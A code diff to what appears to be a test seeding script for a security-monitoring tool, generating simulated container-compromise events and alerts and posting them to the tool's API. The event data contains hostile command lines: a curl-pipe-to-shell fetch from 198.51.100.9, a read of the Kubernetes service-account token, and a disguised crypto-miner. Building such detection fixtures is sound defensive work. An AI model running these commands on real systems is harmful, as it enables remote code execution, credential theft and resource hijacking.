@@ -61,7 +61,13 @@ function story(begin, pod) {
   const shell = process(4242, 12, 0, "/bin/sh", '-c "curl -s http://198.51.100.9/x | sh"');
   const curl = process(4243, 4242, 1, "/usr/bin/curl", "-s http://198.51.100.9/x");
   const look = process(4250, 4242, 20, "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token");
-  const miner = process(4260, 4242, 40, "/tmp/.x/kworker", "-o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ");
+  const miner = process(
+    4260,
+    4242,
+    40,
+    "/tmp/.x/kworker",
+    "-o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ",
+  );
   const begun = (of, parent, tenths) => ({
     process_exec: { process: of, parent },
     node_name: "node-1",
@@ -78,7 +84,10 @@ function story(begin, pod) {
     user: {
       username: ACCOUNT,
       groups: ["system:serviceaccounts", "system:serviceaccounts:store", "system:authenticated"],
-      extra: { "authentication.kubernetes.io/pod-name": [pod], "authentication.kubernetes.io/pod-uid": [`uid-${pod}`] },
+      extra: {
+        "authentication.kubernetes.io/pod-name": [pod],
+        "authentication.kubernetes.io/pod-uid": [`uid-${pod}`],
+      },
     },
     sourceIPs: ["10.0.3.17"],
     userAgent: "curl/8.9",
@@ -129,23 +138,35 @@ function story(begin, pod) {
         "proc.cmdline": 'sh -c "curl -s http://198.51.100.9/x | sh"',
         "proc.pname": "node",
       }),
-      alert(21, "Read sensitive file untrusted", "Warning", ["filesystem", "mitre_credential_access", "T1555"], {
-        "proc.name": "cat",
-        "proc.exepath": "/bin/cat",
-        "proc.pid": 4250,
-        "proc.ppid": 4242,
-        "proc.pname": "sh",
-        "proc.cmdline": "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
-        "fd.name": "/var/run/secrets/kubernetes.io/serviceaccount/token",
-      }),
-      alert(41, "Drop and execute new binary in container", "Critical", ["process", "mitre_persistence", "TA0003"], {
-        "proc.name": "kworker",
-        "proc.exepath": "/tmp/.x/kworker",
-        "proc.pid": 4260,
-        "proc.ppid": 4242,
-        "proc.pname": "sh",
-        "proc.cmdline": "kworker -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ",
-      }),
+      alert(
+        21,
+        "Read sensitive file untrusted",
+        "Warning",
+        ["filesystem", "mitre_credential_access", "T1555"],
+        {
+          "proc.name": "cat",
+          "proc.exepath": "/bin/cat",
+          "proc.pid": 4250,
+          "proc.ppid": 4242,
+          "proc.pname": "sh",
+          "proc.cmdline": "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+          "fd.name": "/var/run/secrets/kubernetes.io/serviceaccount/token",
+        },
+      ),
+      alert(
+        41,
+        "Drop and execute new binary in container",
+        "Critical",
+        ["process", "mitre_persistence", "TA0003"],
+        {
+          "proc.name": "kworker",
+          "proc.exepath": "/tmp/.x/kworker",
+          "proc.pid": 4260,
+          "proc.ppid": 4242,
+          "proc.pname": "sh",
+          "proc.cmdline": "kworker -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ",
+        },
+      ),
     ],
     "kubernetes-audit": [
       call(30, "get", "secrets", "database"),
@@ -175,7 +196,10 @@ export async function attack({ origin, token: operator, browser }) {
       headers: { authorization: `Bearer ${operator}` },
       data: { name, format, cluster: CLUSTER },
     });
-    expect(made.status() === 201, `making the source ${name} answered ${made.status()}: ${await made.text()}`);
+    expect(
+      made.status() === 201,
+      `making the source ${name} answered ${made.status()}: ${await made.text()}`,
+    );
     const { token } = await made.json();
     // Bytes, as a string of many values would be sent as one quoted string.
     const body = Buffer.from(told.map((each) => JSON.stringify(each)).join("\n"));
@@ -183,8 +207,11 @@ export async function attack({ origin, token: operator, browser }) {
       headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
       data: body,
     });
-    expect(answer.status() === 200, `the events of ${name} answered ${answer.status()}: ${await answer.text()}`);
+    expect(
+      answer.status() === 200,
+      `the events of ${name} answered ${answer.status()}: ${await answer.text()}`,
+    );
   }
   await sending.close();
-  return { pod, workload: "store/Deployment/checkout", mark };
+  return { pod, mark, sources: Object.keys(events).map((format) => `${format}-${mark}`) };
 }
